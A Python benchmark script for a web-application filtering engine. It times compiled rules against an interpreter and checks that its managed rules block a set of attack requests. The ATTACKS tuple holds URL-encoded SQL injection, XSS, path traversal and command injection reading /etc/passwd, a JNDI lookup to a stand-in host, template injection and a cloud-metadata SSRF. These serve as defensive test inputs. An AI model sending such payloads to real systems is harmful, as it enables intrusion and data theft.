"""Benchmark the compiled rules engine against a plain interpreter of the same trees.

100 rules of the shapes operators write (path prefixes, method and country
sets, header and cookie tests, regexes, ASN and IP-list membership) plus one
100,000-entry IP list are evaluated for a mix of requests. Both evaluators see
the same RequestView objects (fresh per request, so field parsing and
normalization are paid in both), and every rule's verdict is checked to be
the same before anything is timed.

Figures: ``us_per_request`` (compiled: fresh view + all 100 rules, median
over repeats, with ``_min``/``_max``), ``interpreter_us_per_request``,
``speedup_vs_interpreter`` (target >= 10), ``ip_lookup_us`` (one lookup in the
100k list, address parsing included), ``compile_ms`` (100 rules) and
``list_build_ms`` (100k entries).

Managed rules (``ManagedRules(paranoia=1).inspect`` on a fresh view, the
work ``managed_rules()`` does per request): ``managed_us_per_benign_request``
over browser-like GETs (short path, a few query arguments, ~10 headers, no
body; user agents and referers from a small pool as in real traffic, session
ids and argument values fresh per request), ``managed_us_per_attack_request``
over attack payloads, ``managed_us_per_benign_request_fresh`` with the verdict
memos (of values and of whole requests) emptied before every request (no
value seen before: the worst case). Repeated requests are answered from the
whole-request memo; ``managed_us_per_repeated_request`` times one
browser-like request without a body sent again and again.
The baseline, in the same run, is the matcher as it was before screening
(``tests/filtering/_reference_managed.py``): ``reference_*`` figures and
``managed_speedup_*`` ratios. Both must block the same requests with the
same rule id; that is checked before timing.

Start-up (in a fresh interpreter, median of a few, import excluded):
``managed_build_ms`` (the first ``ManagedRules(1)``) and
``managed_first_request_ms`` (its first ``inspect`` of a browser-like GET,
which derives the screens of the targets it touches).

Usage: ``python bench/rules.py [--quick]`` prints the results as JSON.
"""

from __future__ import annotations

import argparse
import json
import random
import statistics
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))

from edgeline.filtering import (
    ASNList,
    IPRangeSet,
    ManagedRules,
    RequestView,
    Rule,
    compile_ruleset,
    interpret,
    parse,
)
from edgeline.messages import Request

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
)
ATTACKS = (
    "/search?q=1%27%20OR%20%271%27%3D%271", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/item?id=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--",
    "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd",
    "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "/page?name=%7B%7B7*7%7D%7D",
    "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "/.env", "/wp-login.php",
    "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/user?id=1%20AND%20SLEEP(5)",
)


def make_benign(count: int, seed: int = 5) -> list[Request]:
    """Return browser-like GETs: short path, a few arguments, ~10 headers, no body."""
    rng = random.Random(seed)
    paths = ["/", "/products/running-shoes", "/category/shoes", "/api/v1/items/{n}", "/cart",
             "/search", "/blog/2024/11/edge-caching", "/static/app.{n}.js"]
    queries = ["", "page={n}", "color=blue&size={n}&sort=price_asc", "q=running+shoes&page={n}",
               "utm_source=newsletter&utm_medium=email&utm_campaign=nov-{n}", "id={n}&ref=home"]
    out = []
    for _ in range(count):
        n = rng.randrange(1, 100_000)
        path = rng.choice(paths).format(n=n)
        query = rng.choice(queries).format(n=n)
        headers = [
            ("host", "shop.example.com"), ("user-agent", rng.choice(AGENTS)),
            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("accept-language", "en-US,en;q=0.9"), ("accept-encoding", "gzip, deflate, br"),
            ("referer", rng.choice(["https://shop.example.com/", "https://www.google.com/",
                                    "https://shop.example.com/category/shoes?page=2"])),
            ("cookie", f"session={n:x}{rng.randrange(1 << 48):012x}; theme=dark; "
                       f"_ga=GA1.2.{rng.randrange(10**9)}.1700000000"),
            ("sec-fetch-mode", "navigate"), ("sec-fetch-site", "same-origin"),
            ("cf-ipcountry", rng.choice(["US", "DE", "FR"])), ("x-requested-with", "XMLHttpRequest"),
        ]
        url = "https://shop.example.com" + path + (f"?{query}" if query else "")
        out.append(Request("GET", url, headers))
    return out


def make_attacks() -> list[Request]:
    headers = [("host", "shop.example.com"), ("user-agent", AGENTS[0]), ("accept", "*/*")]
    return [Request("GET", "https://shop.example.com" + target, headers) for target in ATTACKS]


def _reference() -> Any:
    """Return the pre-screening matcher class, or None when the tests are not at hand."""
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
    try:
        from tests.filtering._reference_managed import ManagedRules as Reference
    except ImportError:
        return None
    return Reference


def managed(quick: bool) -> dict[str, float]:
    """Time ManagedRules(1).inspect per benign and per attack request, and the baseline."""
    benign = make_benign(300 if quick else 1000)
    attacks = make_attacks()
    fast = ManagedRules(1)
    reference_class = _reference()
    slow = reference_class(1) if reference_class is not None else None
    for request in benign + attacks:
        got = fast.inspect(RequestView(request, None, now=0.0))
        if slow is not None:
            want = slow.inspect(RequestView(request, None, now=0.0))
            if (got and (got.id, got.where)) != (want and (want.id, want.where)):
                raise AssertionError(f"managed rules disagree with the reference on {request}: "
                                     f"{got} != {want}")
    if any(fast.inspect(RequestView(r, None, now=0.0)) for r in benign):
        raise AssertionError("a benign request was blocked")
    if not all(fast.inspect(RequestView(r, None, now=0.0)) for r in attacks):
        raise AssertionError("an attack request passed")

    def per_request(rules: Any, requests: list[Request], rounds: int, fresh: bool = False) -> float:
        samples = []
        for _ in range(5 if quick else 9):
            began = time.perf_counter()
            for _ in range(rounds):
                for request in requests:
                    if fresh:
                        rules._memo.clear()
                        if hasattr(rules, "_requests"):  # the whole-request memo, too
                            rules._requests.clear()
                    rules.inspect(RequestView(request, None, now=0.0))
            samples.append((time.perf_counter() - began) / (rounds * len(requests)) * 1e6)
        return statistics.median(samples)

    # A fresh request set for the timed rounds: ids and session cookies not seen before.
    # Their URLs are parsed first, as routing would have (the reference's were, above).
    timed = make_benign(len(benign) * (5 if quick else 9), seed=6)
    for request in timed:
        request.url.query  # noqa: B018
    chunk = len(benign)

    def steady(rules: Any) -> float:
        samples = []
        for start in range(0, len(timed), chunk):
            began = time.perf_counter()
            for request in timed[start:start + chunk]:
                rules.inspect(RequestView(request, None, now=0.0))
            samples.append((time.perf_counter() - began) / chunk * 1e6)
        return statistics.median(samples)

    out = {
        "managed_us_per_repeated_request": round(per_request(fast, benign[:1], 2000), 3),
        "managed_us_per_benign_request": round(steady(fast), 3),
        "managed_us_per_benign_request_fresh": round(per_request(fast, benign, 1, fresh=True), 3),
        "managed_us_per_attack_request": round(per_request(fast, attacks, 20 if quick else 60), 3),
        "managed_us_per_attack_request_fresh": round(
            per_request(fast, attacks, 20 if quick else 60, fresh=True), 3),
    }
    if slow is not None:
        ref_benign = per_request(slow, benign[: len(benign) // 4], 1)
        ref_attack = per_request(slow, attacks, 5 if quick else 15)
        out.update({
            "reference_us_per_benign_request": round(ref_benign, 3),
            "reference_us_per_attack_request": round(ref_attack, 3),
            "managed_speedup_benign": round(ref_benign / out["managed_us_per_benign_request"], 1),
            "managed_speedup_benign_fresh": round(
                ref_benign / out["managed_us_per_benign_request_fresh"], 1),
            "managed_speedup_attack": round(ref_attack / out["managed_us_per_attack_request"], 2),
            "managed_speedup_attack_fresh": round(
                ref_attack / out["managed_us_per_attack_request_fresh"], 2),
        })
    return out


def make_ip_list(count: int, seed: int = 7) -> list[str]:
    """Return ``count`` distinct IPv4 /32s and /24s plus some IPv6 networks."""
    rng = random.Random(seed)
    out: set[str] = set()
    while len(out) < count:
        roll = rng.random()
        if roll < 0.7:
            out.add(f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}")
        elif roll < 0.95:
            out.add(f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.0/24")
        else:
            out.add(f"2001:db8:{rng.randrange(65536):x}:{rng.randrange(65536):x}::/64")
    return sorted(out)


def make_rules(count: int = 100) -> list[Rule]:
    """Return ``count`` rules cycling through realistic shapes (log actions: all run)."""
    shapes = [
        'http.path starts_with "/admin/{i}" and not ip.src in $blocklist',
        'http.method in {{"PUT" "DELETE"}} and http.path starts_with "/api/v{i}/"',
        'geo.country in {{"KP" "IR" "SY" "C{i}"}}',
        'lower(http.user_agent) contains "scanner-{i}"',
        'http.header["x-api-version"] == "{i}" and http.host ends_with ".example.com"',
        'http.cookie["role"] == "admin-{i}" and ip.src in $blocklist',
        'http.path matches r"^/v[0-9]+/items/{i}[0-9]*$"',
        'geo.asn in $bad_asns and http.path contains "/login{i}"',
        'ip.src in {{10.{i}.0.0/16 192.0.2.{i}}} or http.query contains "debug={i}"',
        'len(http.query) > {n} and http.method == "GET"',
    ]
    rules = []
    for i in range(count):
        shape = shapes[i % len(shapes)]
        rules.append(Rule(f"r{i}", shape.format(i=i % 250, n=900 + i), {"type": "log"}))
    return rules


def make_requests(ips: list[str], count: int, seed: int = 11) -> list[Request]:
    rng = random.Random(seed)
    paths = ["/", "/api/v2/items/17", "/admin/3/settings", "/v1/items/42", "/login5", "/static/app.js",
             "/search", "/api/v1/users/9/orders"]
    agents = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0", "curl/8.5.0", "scanner-4 bot",
              "Mozilla/5.0 (iPhone) Safari/604.1"]
    out = []
    for n in range(count):
        if n % 3 == 0:
            ip = ips[rng.randrange(len(ips))].partition("/")[0]
        else:
            ip = f"{rng.randrange(1, 224)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(256)}"
        path = rng.choice(paths)
        query = rng.choice(["", "q=shoes&page=2", "debug=3", "x=" + "a" * 20])
        headers = {
            "host": rng.choice(["shop.example.com", "api.example.com", "other.test"]),
            "user-agent": rng.choice(agents), "cf-connecting-ip": ip,
            "accept": "text/html", "x-api-version": str(rng.randrange(5)),
            "cookie": f"session=abc123; role=admin-{rng.randrange(20)}",
        }
        method = rng.choice(["GET", "GET", "GET", "POST", "PUT", "DELETE"])
        cf = {"country": rng.choice(["US", "DE", "KP", "C3", "FR"]),
              "asn": str(rng.choice([13335, 15169, 4134, 64512]))}
        url = f"https://{headers['host']}{path}" + (f"?{query}" if query else "")
        out.append(Request(method, url, headers, cf=cf))
    return out


def _time(function: Any, rounds: int) -> float:
    began = time.perf_counter()
    function(rounds)
    return time.perf_counter() - began


_BUILD_SCRIPT = """
import sys, time
sys.path.insert(0, {src!r})
import edgeline.filtering
from edgeline.filtering import ManagedRules, RequestView
from edgeline.messages import Request
request = Request("GET", "https://shop.example.com/search?q=red+shoes&page=2", headers={{
    "host": "shop.example.com", "accept": "text/html",
    "user-agent": "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "referer": "https://www.google.com/", "cookie": "session=ab12; theme=dark",
    "x-custom": "hello world"}})
began = time.perf_counter()
rules = ManagedRules(1)
built = time.perf_counter()
rules.inspect(RequestView(request, None, now=0.0))
done = time.perf_counter()
print((built - began) * 1000, (done - built) * 1000)
"""


def managed_build(quick: bool) -> dict[str, float]:
    """Time the first ``ManagedRules(1)`` of a fresh interpreter, and its first request."""
    import subprocess

    script = _BUILD_SCRIPT.format(src=str(Path(__file__).resolve().parent.parent / "src"))
    builds: list[float] = []
    firsts: list[float] = []
    for _ in range(3 if quick else 7):
        out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                             check=True, timeout=60).stdout.split()
        builds.append(float(out[0]))
        firsts.append(float(out[1]))
    return {"managed_build_ms": round(statistics.median(builds), 2),
            "managed_first_request_ms": round(statistics.median(firsts), 2)}


def run(quick: bool = False) -> dict[str, float]:
    """Run the benchmark; return flat named figures."""
    list_size = 100_000
    ips = make_ip_list(list_size)
    began = time.perf_counter()
    blocklist = IPRangeSet(ips, name="blocklist")
    list_build_ms = (time.perf_counter() - began) * 1000
    lists = {"blocklist": blocklist, "bad_asns": ASNList(["4134", "AS64512", "9009"])}
    rules = make_rules(100)
    began = time.perf_counter()
    ruleset = compile_ruleset(rules, lists=lists)
    compile_ms = (time.perf_counter() - began) * 1000
    phase = ruleset.phases[0]
    evaluate = phase.evaluate
    trees = [parse(rule.expression) for rule in phase.rules]
    requests = make_requests(ips, 200 if quick else 1000)
    now = 1_700_000_000.0

    # Both evaluators must agree on every rule for every request.
    for request in requests:
        compiled_hits = evaluate(RequestView(request, None, now=now))
        view = RequestView(request, None, now=now)
        interpreted = [i for i, tree in enumerate(trees) if interpret(tree, view, lists)]
        if compiled_hits != interpreted:
            raise AssertionError(f"compiled and interpreted disagree on {request}: "
                                 f"{compiled_hits} != {interpreted}")

    def compiled(rounds: int) -> None:
        for _ in range(rounds):
            for request in requests:
                evaluate(RequestView(request, None, now=now))

    def interpreted(rounds: int) -> None:
        for _ in range(rounds):
            for request in requests:
                view = RequestView(request, None, now=now)
                for tree in trees:
                    interpret(tree, view, lists)

    repeats = 5 if quick else 9
    per = len(requests)
    compiled_us = [_time(compiled, 3 if quick else 5) / (per * (3 if quick else 5)) * 1e6
                   for _ in range(repeats)]
    interp_us = [_time(interpreted, 1) / per * 1e6 for _ in range(3 if quick else 5)]
    probe = [ips[i].partition("/")[0] for i in range(0, list_size, 97)]
    lookups = 20 if quick else 100

    def lookup(rounds: int) -> None:
        contains = blocklist.__contains__
        for _ in range(rounds):
            for address in probe:
                contains(address)

    lookup_us = [_time(lookup, lookups) / (lookups * len(probe)) * 1e6 for _ in range(repeats)]
    compiled_median = statistics.median(compiled_us)
    interp_median = statistics.median(interp_us)
    return {
        "rules": float(len(rules)),
        "ip_list_entries": float(list_size),
        "us_per_request": round(compiled_median, 3),
        "us_per_request_min": round(min(compiled_us), 3),
        "us_per_request_max": round(max(compiled_us), 3),
        "interpreter_us_per_request": round(interp_median, 3),
        "speedup_vs_interpreter": round(interp_median / compiled_median, 2),
        "ip_lookup_us": round(statistics.median(lookup_us), 3),
        "compile_ms": round(compile_ms, 2),
        "list_build_ms": round(list_build_ms, 1),
        **managed(quick),
        **managed_build(quick),
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--quick", action="store_true")
    print(json.dumps(run(parser.parse_args().quick), indent=2))


if __name__ == "__main__":
    main()
